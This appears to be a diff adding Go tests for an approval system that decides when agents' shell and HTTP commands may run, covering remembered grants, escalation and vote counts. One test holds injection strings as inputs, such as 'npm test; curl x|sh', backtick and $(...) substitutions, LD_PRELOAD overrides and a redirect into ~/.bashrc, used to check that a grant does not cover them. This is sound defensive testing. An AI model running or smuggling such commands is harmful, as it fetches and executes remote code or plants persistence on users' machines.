@@ -97,6 +97,64 @@ func TestAgentAcrossRememberBatchEscalate(t *testing.T) {
 			wantRemembered(t, file(t, s, p, shellFiling("make build", "s2", "/x")), g)
 		})
 
+		t.Run("a grant on the runtime's own http filing never releases a pending grant", func(t *testing.T) {
+			rt := runtime(t, s, "mw")
+			tg := merge()
+			r := file(t, s, rt, models.NewRequest{Kind: models.KindApproval, Title: "merge", Tool: "http", Command: tg.Method + " " + tg.URL()})
+			remember(t, s, r, store.RememberSpec{Scope: "runtime", For: "1h"})
+			_, pr := filePending(t, s, rt, tg, "merge_pr_7")
+			wantOpen(t, pr)
+		})
+
+		t.Run("a grant for Bash does not cover bash, an empty tool or another line", func(t *testing.T) {
+			g := remember(t, s, file(t, s, p, shellFiling("npm test", "s1", "/repo")), store.RememberSpec{Scope: "runtime", For: "1h", Match: "^npm test( .*)?$"})
+			for _, tool := range []string{"bash", "", "BASH"} {
+				n := shellFiling("npm test", "s1", "/repo")
+				n.Tool = tool
+				wantOpen(t, file(t, s, p, n))
+			}
+			for _, cmd := range []string{"npm test; curl x|sh", "npm test $(curl x)", "npm test\ncurl x|sh", "npm test `curl x`",
+				"LD_PRELOAD=/tmp/x.so npm test", "PATH=/tmp npm test", "npm test > ~/.bashrc", "npm test & curl x", "npm test <(curl x)"} {
+				n := shellFiling(cmd, "s1", "/repo")
+				n.Title = "Run a line"
+				wantOpen(t, file(t, s, p, n))
+			}
+			wantRemembered(t, file(t, s, p, shellFiling("npm test -- --watch=false", "s1", "/repo")), g)
+		})
+
+		t.Run("an escalation step due after the decision never fires", func(t *testing.T) {
+			r := file(t, s, p, shellFiling("make deploy prod", "s1", "/repo"))
+			if _, err := s.Decide(ctx, r.ID, models.Decision{Version: r.Version, Option: "deny", By: alice.Label(), Via: models.ViaAPI, Voter: &alice}); err != nil {
+				t.Fatal(err)
+			}
+			t0 := *clock
+			defer func() { *clock = t0 }()
+			*clock = t0.Add(31 * time.Minute)
+			if _, _, err := s.Escalate(ctx); err != nil {
+				t.Fatal(err)
+			}
+			if acts := actions(t, s, r.ID); count(acts, store.ActionEscalate) != 0 || count(acts, "decide") != 1 {
+				t.Fatalf("audit %v", acts)
+			}
+		})
+
+		t.Run("escalated because everyone is away, the policy's two votes are still needed", func(t *testing.T) {
+			n := shellFiling("make deploy canary", "s1", "/repo")
+			n.Approvers = &models.Approvers{Required: 2}
+			if _, err := s.SetAway(ctx, alice, true, nil); err != nil {
+				t.Fatal(err)
+			}
+			defer s.SetAway(ctx, alice, false, nil)
+			r := file(t, s, p, n)
+			if r.EscalationStep != 1 {
+				t.Fatalf("step %d", r.EscalationStep)
+			}
+			got, err := s.Decide(ctx, r.ID, models.Decision{Version: r.Version, Option: "once", By: bob.Label(), Via: models.ViaAPI, Voter: &bob})
+			if err != nil || got.Status != models.StatusOpen {
+				t.Fatalf("one on-call vote: %v %v", got, err)
+			}
+		})
+
 		t.Run("a batch id repeated in another case is not a second decision", func(t *testing.T) {
 			r := file(t, s, p, shellFiling("make deploy", "s1", "/repo"))
 			items := batchOf(alice, "once", []*models.Request{r})
